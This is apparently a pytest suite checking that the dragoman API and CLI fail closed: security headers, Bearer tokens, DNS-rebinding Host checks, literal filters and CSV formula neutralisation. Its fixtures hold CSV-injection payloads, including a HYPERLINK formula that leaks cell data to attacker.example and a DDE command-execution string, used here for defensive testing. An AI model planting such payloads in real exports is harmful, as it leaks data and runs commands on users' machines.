"""Closed by default: every reply of the API is JSON with the security headers (early ones and crashes too), the
token needs the word Bearer, a Host the server does not serve is refused (DNS rebinding), filters match their
words literally (no LIKE wildcards), a coder failure on a submission is a JSON error with the article kept, and
no CSV the project writes starts a cell with a formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402

import dragoman.cli  # noqa: E402, F401 - registers every command
from dragoman.api import create_app  # noqa: E402
from dragoman.api.security import CSP  # noqa: E402
from dragoman.cli.app import main  # noqa: E402
from dragoman.cli.output import emit  # noqa: E402
from dragoman.model import Actor, Article, Coder, EventDate, EventMention, Evidence, Location  # noqa: E402
from dragoman.store import Store  # noqa: E402
from dragoman.store import articles as article_queries  # noqa: E402
from dragoman.store.events import EventFilter, query_mentions  # noqa: E402

TOKEN = "closed-test-token"
HEADERS = ("content-security-policy", "x-content-type-options", "referrer-policy", "x-frame-options")
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def hostile_mention(n: int, article_id: str, source_text: str, sentence: str) -> EventMention:
    return EventMention(
        id=f"h{n}", article_id=article_id,
        source=Actor(code="NORGOV", country="NOR", sector="GOV", name="+cmd|' /C calc'!A0", text=source_text),
        target=Actor(code="SWE", country="SWE", name="@SUM(1+1)", text="Sweden"),
        cameo="040", cameo_root="04", plover="CONSULT", plover_mode=None, quad_class=1, goldstein=-2.0,
        date=EventDate(start="2024-05-06", end="2024-05-06", precision="day", text="-6 May"),
        location=Location(name="\tOslo", country="NOR", lat=59.9, lon=10.7, precision="city", text="Oslo"),
        factuality="asserted", evidence=Evidence(sentence=sentence, start=0, end=len(sentence), trigger="met"),
        coder=Coder(version="test", lexicons="test"), confidence=0.8,
    )


@pytest.fixture()
def hostile_store(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.duckdb"
    store = Store(db)
    article = Article(article_id="h-art", text=FORMULA + " Norway and Sweden met in Oslo.", content_hash="hh",
                      title="=cmd|' /C calc'!A0", published="2024-05-06", source="-Outlet", language="en")
    store.write_batch([(article, None, [
        hostile_mention(1, "h-art", "100% Norway", FORMULA),
        hostile_mention(2, "h-art", "Norway_Sweden", "\rCarriage return first."),
        hostile_mention(3, "h-art", "Norway", "A plain sentence with = inside and - dashes."),
    ])])
    return db


def client(db: Path, **kwargs) -> TestClient:
    return TestClient(create_app(db, **kwargs), base_url="http://127.0.0.1", raise_server_exceptions=False)


def assert_closed(r, status: int) -> None:
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/json")
    assert r.json()["error"] and r.json()["reason"]
    for name in HEADERS:
        assert name in r.headers, name
    assert r.headers["content-security-policy"] == CSP


# ---------------------------------------------------------------- bodies and tokens


def test_a_lone_surrogate_in_the_body_is_a_json_4xx(hostile_store: Path) -> None:
    http = client(hostile_store, token=TOKEN)
    body = b'{"text": "\\ud800 Norway and Sweden met in Oslo on Monday to talk about fishing."}'
    for headers in ({}, {"Authorization": f"Bearer {TOKEN}"}):
        r = http.post("/api/articles", content=body, headers={"Content-Type": "application/json", **headers})
        assert 400 <= r.status_code < 500, r.text
        assert_closed(r, r.status_code)
    r = http.post("/api/articles", content=b'{"title": "\\udfff", "text": 3}', headers={"Content-Type": "application/json"})
    assert_closed(r, 422)


def test_the_token_needs_the_word_bearer(hostile_store: Path) -> None:
    http = client(hostile_store, token=TOKEN)
    for value in (TOKEN, f"Token {TOKEN}", f"Bearer{TOKEN}", f"Basic {TOKEN}", "Bearer ", ""):
        assert_closed(http.post("/api/articles", json={"text": "x" * 50}, headers={"Authorization": value}), 401)


# ---------------------------------------------------------------- every reply carries the headers


def test_early_replies_and_crashes_carry_the_security_headers(hostile_store: Path) -> None:
    app = create_app(hostile_store, token=TOKEN)

    @app.get("/crash")
    def crash() -> None:
        raise RuntimeError("a bug\nwith details that stay in the log")

    http = TestClient(app, base_url="http://127.0.0.1", raise_server_exceptions=False)
    big = b'{"text": "' + b"a" * 5_200_000 + b'"}'
    assert_closed(http.post("/api/articles", content=big, headers={"Content-Type": "application/json"}), 413)
    assert_closed(http.post("/api/articles", content=b"{}", headers={"Content-Length": "many"}), 400)
    r = http.get("/crash")
    assert_closed(r, 500)
    assert "details" not in r.text
    assert_closed(http.get("/api/nowhere"), 404)
    assert_closed(http.get("/api/mentions?limit=-3"), 422)
    assert_closed(http.get("/", headers={"Host": "rebound.attacker.example"}), 421)


# ---------------------------------------------------------------- the Host header


def test_hosts_the_server_does_not_serve_are_refused(hostile_store: Path) -> None:
    app = create_app(hostile_store)
    for host in ("127.0.0.1", "127.0.0.1:8000", "localhost:8000", "LOCALHOST", "[::1]:8000"):
        assert TestClient(app, base_url=f"http://{host}").get("/api/health").status_code == 200, host
    for host in ("attacker.example", "attacker.example:8000", "127.0.0.1.attacker.example", "localhost.",
                 "user@127.0.0.1"):
        r = TestClient(app, base_url="http://127.0.0.1").get("/api/health", headers={"Host": host})
        assert_closed(r, 421)
    allowed = create_app(hostile_store, allowed_hosts=["dragoman.internal"])
    assert TestClient(allowed, base_url="http://dragoman.internal:8000").get("/api/health").status_code == 200
    lan = create_app(hostile_store, host="10.1.2.3")
    assert TestClient(lan, base_url="http://10.1.2.3:8000").get("/api/health").status_code == 200
    assert TestClient(lan, base_url="http://localhost:8000").get("/api/health").status_code == 421


def test_serve_passes_its_host_and_allow_host_to_the_app(hostile_store: Path, monkeypatch) -> None:
    import uvicorn

    seen = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kwargs: seen.update(app=app, **kwargs))
    result = CliRunner().invoke(main, ["--db", str(hostile_store), "serve", "--host", "10.1.2.3", "--allow-host",
                                       "events.example.org", "--allow-host", "Other.Example"])
    assert result.exit_code == 0, result.output
    assert seen["host"] == "10.1.2.3"
    http = TestClient(seen["app"], base_url="http://events.example.org")
    assert http.get("/api/health").status_code == 200
    assert http.get("/api/health", headers={"Host": "other.example:8000"}).status_code == 200
    assert http.get("/api/health", headers={"Host": "127.0.0.1"}).status_code == 421


# ---------------------------------------------------------------- filters are literal


def test_like_metacharacters_in_filters_match_literally(hostile_store: Path) -> None:
    store = Store(hostile_store, read_only=True)
    assert {m["id"] for m in query_mentions(store, EventFilter(actor="%"))} == {"h1"}
    assert {m["id"] for m in query_mentions(store, EventFilter(actor="_"))} == {"h2"}
    assert {m["id"] for m in query_mentions(store, EventFilter(actor="norway"))} == {"h1", "h2", "h3"}
    assert query_mentions(store, EventFilter(actor="\\")) == []
    http = client(hostile_store)
    assert http.get("/api/mentions", params={"actor": "%"}).json()["total"] == 1
    assert http.get("/api/mentions", params={"actor": "100%"}).json()["total"] == 1
    assert http.get("/api/mentions", params={"actor": "n%y"}).json()["total"] == 0


# ---------------------------------------------------------------- CSV cells never start a formula


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(text: str) -> list[str]:
    """Text cells a spreadsheet would take for a formula (a number such as -2 is a number)."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(cell)]


def test_api_csv_download_neutralises_formulas(hostile_store: Path) -> None:
    r = client(hostile_store).get("/api/mentions", params={"format": "csv"})
    assert r.status_code == 200
    assert formula_cells(r.text) == []
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert {row["sentence"] for row in rows} >= {"'" + FORMULA, "'\rCarriage return first."}
    assert {row["goldstein"] for row in rows} == {"-2"}  # numbers stay numbers


@pytest.mark.parametrize("args", [
    ("events", "--mentions", "--format", "csv"),
    ("export", "--table", "mentions", "--format", "csv"),
    ("export", "--table", "articles", "--format", "csv"),
    ("export", "--table", "actors", "--format", "csv"),
    ("articles", "--format", "csv"),
])
def test_cli_csv_outputs_neutralise_formulas(hostile_store: Path, args: tuple[str, ...]) -> None:
    result = CliRunner().invoke(main, ["--db", str(hostile_store), *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert result.stdout.count("\n") >= 2
    assert formula_cells(result.stdout) == [], args
    assert "'=" in result.stdout or "'+" in result.stdout or "'-" in result.stdout


def test_export_to_a_csv_file_neutralises_formulas(hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "mentions.csv"
    result = CliRunner().invoke(main, ["--db", str(hostile_store), "export", "--table", "mentions", "--format",
                                       "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert formula_cells(text) == [] and "'" + FORMULA.replace('"', '""') in text


def test_code_csv_output_neutralises_formulas(hostile_store: Path) -> None:
    out = io.StringIO()
    records = query_mentions(Store(hostile_store, read_only=True))
    assert emit(records, "csv", out) == 3
    assert formula_cells(out.getvalue()) == []
    assert [r for r in csv.DictReader(io.StringIO(out.getvalue())) if r["goldstein"] == "-2.0"]


# ---------------------------------------------------------------- a coder failure on a submission


class BrokenCoder:
    def code_articles(self, articles: Iterable[Article]) -> Iterator[tuple[Article, list[EventMention]]]:
        for a in articles:
            raise ValueError(f"[E088] Text of length {len(a.text)} exceeds maximum of 1000000.")
            yield a, []


def test_a_coder_failure_on_a_submission_is_a_json_error_and_the_article_is_kept(hostile_store: Path) -> None:
    app = create_app(hostile_store, token=TOKEN)
    app.state.coder = BrokenCoder()
    http = TestClient(app, base_url="http://127.0.0.1", raise_server_exceptions=False)
    text = "Norwegian and Swedish ministers met in Oslo on Monday to discuss fishing quotas. " * 3
    r = http.post("/api/articles", json={"text": text, "id": "submitted-1"},
                  headers={"Authorization": f"Bearer {TOKEN}"})
    assert_closed(r, 422)
    assert "E088" in r.json()["reason"] and "recode" in r.json()["reason"]
    assert r.json()["article_ids"] == ["submitted-1"]
    stored = article_queries.get_article(Store(hostile_store, read_only=True), "submitted-1")
    assert stored is not None and not stored["coded"] and "E088" in stored["code_error"]
    shown = http.get("/api/articles/submitted-1").json()
    assert "E088" in shown["code_error"]


@pytest.mark.slow
def test_a_paragraph_of_a_million_characters_is_no_500(hostile_store: Path) -> None:
    http = client(hostile_store, token=TOKEN)
    paragraph = "Norwegian fishing crews protested outside the parliament in Oslo on Monday. " * 16_000
    assert len(paragraph) > 1_200_000
    r = http.post("/api/articles", content=json.dumps({"text": paragraph}),
                  headers={"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"})
    assert r.status_code < 500, r.text[:300]
    assert r.headers["content-type"].startswith("application/json")
